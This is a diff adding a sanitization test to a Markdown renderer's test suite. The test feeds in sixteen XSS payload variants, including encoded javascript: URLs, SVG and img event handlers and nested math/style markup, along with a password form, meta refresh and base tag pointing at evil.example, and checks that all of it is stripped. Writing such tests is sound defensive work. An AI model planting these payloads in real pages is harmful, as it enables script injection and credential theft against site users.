@@ -60,6 +60,35 @@ describe('Markdown', () => {
     expect(html).toContain(`src="${BASE}x.png"`);
   });
 
+  it('sanitizes the variants too: mixed case and entity-encoded javascript:, SVG onload, form, meta refresh, base', () => {
+    const md = [
+      '<a href="JaVaScRiPt:alert(1)">a</a>',
+      '<a href="&#106;avascript:alert(2)">b</a>',
+      '<a href="&#x6A;&#x61;vascript&#x3A;alert(3)">c</a>',
+      '<a href="java&#x09;script:alert(4)">d</a>',
+      '<a href=" javascript:alert(5)">e</a>',
+      '[f](JAVASCRIPT:alert(6)) [g](&#106;avascript:alert(7)) [h](<javascript:alert(8)>)',
+      '<svg onload="alert(9)"><circle r="1"/></svg>',
+      '<svg><animate onbegin="alert(10)" attributeName="x"/></svg>',
+      '<form action="https://evil.example/steal"><input name="password"><button formaction="https://evil.example/">go</button></form>',
+      '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+      '<base href="https://evil.example/">',
+      '<img src=x onerror=alert(11)>',
+      '<IMG SRC="jav&#x0D;ascript:alert(12)">',
+      '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
+      '<a href="vbscript:msgbox(13)">i</a> <a href="data:text/html,<script>alert(14)</script>">j</a>',
+      '<math><mtext><table><mglyph><style><img src=x onerror=alert(15)>',
+    ].join('\n\n');
+    const { html } = en.render(md, BASE);
+    // No dangerous element, no event or form attribute, no script URL: what is left is text (escaped) and harmless tags.
+    expect(html).not.toMatch(/<(form|meta|base|object|embed|svg|style|script|iframe|button|math)\b/i);
+    expect(html).not.toMatch(/<[^>]*\s(on\w+|formaction|action|http-equiv)=/i);
+    expect(html).not.toMatch(/(href|src)="\s*(javascript|vbscript|data|jav)/i);
+    // Only task-list checkboxes survive as inputs: disabled.
+    for (const input of html.match(/<input[^>]*>/g) ?? []) expect(input).toMatch(/disabled/);
+    expect(html).toContain('<a>a</a>');
+  });
+
   it('makes relative links and images absolute against the issue URL', () => {
     const md = '![a](/images/a.png) ![d](diagram.png) [prev](../other/) [top](#intro) [mail](mailto:a@b.c) [abs](https://x.example/y)';
     const { html } = en.render(md, BASE);
